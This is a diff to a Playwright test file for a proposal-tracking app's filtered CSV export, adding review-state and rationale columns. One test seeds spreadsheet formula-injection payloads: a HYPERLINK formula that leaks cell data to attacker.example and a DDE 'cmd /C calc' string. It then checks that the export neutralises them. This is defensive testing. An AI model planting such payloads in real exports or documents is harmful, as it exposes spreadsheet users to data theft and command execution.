@@ -10,6 +10,7 @@ import { testDb } from "./support/db";
 
 test.use({ storageState: storageStatePath("viewer") });
 
+// lib/domain/csv.ts PROPOSAL_CSV_HEADER, written out: a renamed or moved column must fail here.
 const CSV_HEADER = [
   "Proposal",
   "Set",
@@ -21,13 +22,18 @@ const CSV_HEADER = [
   "Status",
   "Assessment",
   "Progress (%)",
+  "Review state",
+  "Rationale",
   "Narrative",
   "Next steps",
   "Evidence",
   "Updated by",
   "Organisation",
   "Updated at (UTC)",
-];
+] as const;
+
+const COLUMN = Object.fromEntries(CSV_HEADER.map((name, i) => [name, i])) as Record<(typeof CSV_HEADER)[number], number>;
+const REVIEW_LABELS: Record<string, string> = { DRAFT: "Draft", SUBMITTED: "Submitted", APPROVED: "Approved", RETURNED: "Returned" };
 
 const AREA_ID = "hybrid-threats";
 const STATUS_FILTER = [
@@ -52,17 +58,21 @@ function parseCsv(bytes: Buffer): string[][] {
   return parse(bytes.toString("utf8"), { bom: true }) as string[][];
 }
 
-/** Proposal codes the filters must select, from the database. */
-async function expectedCodes(): Promise<string[]> {
+/** Proposals the filters must select (the list counts updates in every review state), from the database. */
+async function expectedRows(): Promise<{ code: string; review: string; rationale: string }[]> {
   const periodId = await openPeriodId();
   const proposals = await testDb().proposal.findMany({
     where: { areaId: AREA_ID },
-    select: { number: true, statusUpdates: { where: { periodId }, select: { status: true } } },
+    select: { number: true, statusUpdates: { where: { periodId }, select: { status: true, workflowState: true, rationale: true } } },
     orderBy: { number: "asc" },
   });
   return proposals
     .filter((p) => (p.statusUpdates[0] ? p.statusUpdates[0].status === "IN_PROGRESS" : true))
-    .map((p) => proposalCode(p.number));
+    .map((p) => ({
+      code: proposalCode(p.number),
+      review: p.statusUpdates[0] ? REVIEW_LABELS[p.statusUpdates[0].workflowState]! : "",
+      rationale: p.statusUpdates[0]?.rationale ?? "",
+    }));
 }
 
 test("filter by area and status via the URL, reload, and download the same rows as CSV", async ({ page }) => {
@@ -72,8 +82,12 @@ test("filter by area and status via the URL, reload, and download the same rows 
   await expect(page.getByTestId("proposal-table").locator("tbody tr")).toHaveCount(74);
   await expectNoAxeViolations(page);
 
+  // The list shows each update's review state.
+  await expect(page.getByTestId("proposal-table").getByRole("columnheader", { name: "Review", exact: true })).toBeVisible();
+
   const area = await testDb().area.findUniqueOrThrow({ where: { id: AREA_ID }, select: { name: true, _count: { select: { proposals: true } } } });
-  const expected = await expectedCodes();
+  const rows = await expectedRows();
+  const expected = rows.map((r) => r.code);
   // The filter must be meaningful: some but not all of the area's proposals.
   expect(expected.length).toBeGreaterThan(1);
   expect(expected.length).toBeLessThan(area._count.proposals);
@@ -108,19 +122,22 @@ test("filter by area and status via the URL, reload, and download the same rows 
   expect(records.filter((row) => row[0] === "Proposal")).toHaveLength(1);
   const body = records.slice(1);
   expect(body.map((row) => row[0])).toEqual(expected);
-  for (const row of body) {
+  for (const [i, row] of body.entries()) {
     expect(row).toHaveLength(CSV_HEADER.length);
-    expect(row[2]).toBe(area.name);
-    expect(row[6]).toBe("11th progress report");
-    expect(["In progress", "No update"]).toContain(row[7]);
+    expect(row[COLUMN.Area]).toBe(area.name);
+    expect(row[COLUMN.Period]).toBe("11th progress report");
+    expect(["In progress", "No update"]).toContain(row[COLUMN.Status]);
+    expect(row[COLUMN["Review state"]], `${row[0]} review state`).toBe(rows[i]!.review);
+    expect(row[COLUMN.Rationale], `${row[0]} rationale`).toBe(rows[i]!.rationale);
   }
 });
 
-test("a narrative that starts like a formula is made inert in the CSV", async ({ page }) => {
+test("a narrative, next steps or rationale that starts like a formula is made inert in the CSV", async ({ page }) => {
   const proposal = await freshProposal(2);
   const author = await newUser("STAFF", { focalPointOf: [proposal.id] });
   const narrative = '=HYPERLINK("https://attacker.example/?d="&A1,"Click for the details")';
   const nextSteps = "@SUM(1+1)*cmd|' /C calc'!A0";
+  const rationale = "+1-2 changed after a formula";
   await testDb().statusUpdate.create({
     data: {
       proposalId: proposal.id,
@@ -130,6 +147,8 @@ test("a narrative that starts like a formula is made inert in the CSV", async ({
       progress: 20,
       narrative,
       nextSteps,
+      rationale,
+      workflowState: "SUBMITTED",
       authorId: author.id,
       organisationId: author.organisationId,
     },
@@ -143,20 +162,24 @@ test("a narrative that starts like a formula is made inert in the CSV", async ({
   const row = page.getByTestId("proposal-table").locator(`tbody tr[data-proposal="${proposal.code}"]`);
   await expect(row).toBeVisible();
   await expect(row.getByText("In progress", { exact: true })).toBeVisible();
+  await expect(row.getByText("Submitted", { exact: true })).toBeVisible();
 
   const records = parseCsv(await downloadCsv(page));
   expect(records[0]).toEqual(CSV_HEADER);
   const csvRow = records.find((r) => r[0] === proposal.code);
   expect(csvRow, `${proposal.code} in the CSV`).toBeDefined();
-  expect(csvRow![10]).toBe(`'${narrative}`);
-  expect(csvRow![11]).toBe(`'${nextSteps}`);
-  expect(csvRow![7]).toBe("In progress");
+  expect(csvRow![COLUMN.Narrative]).toBe(`'${narrative}`);
+  expect(csvRow![COLUMN["Next steps"]]).toBe(`'${nextSteps}`);
+  expect(csvRow![COLUMN.Rationale]).toBe(`'${rationale}`);
+  expect(csvRow![COLUMN.Status]).toBe("In progress");
+  expect(csvRow![COLUMN["Review state"]]).toBe("Submitted");
 
   // The proposal page shows the text as written, as plain text.
   await row.getByRole("link", { name: proposal.title, exact: true }).click();
   await expect(page).toHaveURL(new RegExp(`/proposals/${proposal.id}$`));
   const current = page.getByRole("region", { name: /^Current state: / });
   await expect(current.getByText(narrative, { exact: true })).toBeVisible();
+  await expect(current.getByText(rationale, { exact: true })).toBeVisible();
   await expect(current.getByRole("link", { name: /Click for the details/ })).toHaveCount(0);
   await expectNoAxeViolations(page);
 });
